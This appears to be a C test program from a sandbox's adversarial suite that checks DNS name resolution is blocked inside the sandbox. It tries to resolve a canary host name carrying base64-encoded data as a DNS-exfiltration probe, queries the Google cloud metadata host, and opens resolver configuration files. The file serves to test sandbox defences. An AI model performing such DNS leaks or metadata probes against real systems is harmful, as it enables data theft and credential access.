/* NET-02: resolve names through libc (data exfiltration via DNS); only the box's own hosts file works. */
#include "adv.h"
#include <netdb.h>

static void resolve(const char *label, const char *name) {
    struct addrinfo *res = NULL, hints = {.ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM};
    int r = getaddrinfo(name, "80", &hints, &res);
    SAY("%s=%s\n", label, r == 0 ? "OK" : (r == EAI_NONAME ? "EAI_NONAME" : r == EAI_AGAIN ? "EAI_AGAIN" : gai_strerror(r)));
    if (res) freeaddrinfo(res);
}

int main(void) {
    resolve("resolve_canary", "leak-c2VjcmV0.stockade-adv-canary.example");
    resolve("resolve_metadata", "metadata.google.internal");
    resolve("resolve_public", "example.com");
    resolve("resolve_localhost", "localhost");
    resolve("resolve_self", "stockade");
    TRY("open_resolv_conf", open("/etc/resolv.conf", O_RDONLY));
    TRY("open_nscd", open("/var/run/nscd/socket", O_RDONLY));
    return 0;
}
